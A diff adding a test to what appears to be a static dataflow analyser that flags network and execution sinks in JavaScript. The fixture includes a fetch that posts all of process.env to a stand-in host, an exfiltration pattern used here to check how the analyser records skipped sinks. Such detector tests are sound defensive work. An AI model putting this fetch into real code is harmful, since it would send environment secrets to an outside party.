@@ -338,3 +338,16 @@ def test_command_from_configuration_is_not_remote() -> None:
         "module.exports = (cfg) => { net.connect(cfg.port); exec(cfg.command); };"
     )
     assert not [f for f in flows_of(code).flows if f.sink.executes]
+
+
+def test_sink_cap_is_recorded(monkeypatch: pytest.MonkeyPatch) -> None:
+    import airlock.analysis.dataflow.file as file_pass
+
+    monkeypatch.setattr(file_pass, "MAX_SINKS", 2)
+    code = (
+        "fetch('https://a.example.com/1');\n" * 3
+        + "fetch('https://a.example.com/', {body: JSON.stringify(process.env)});"
+    )
+    result = analyze_source("x.js", code.encode(), Dialect.JAVASCRIPT)
+    assert not result.flows.complete
+    assert any("network sinks" in s.reason for s in result.skipped)
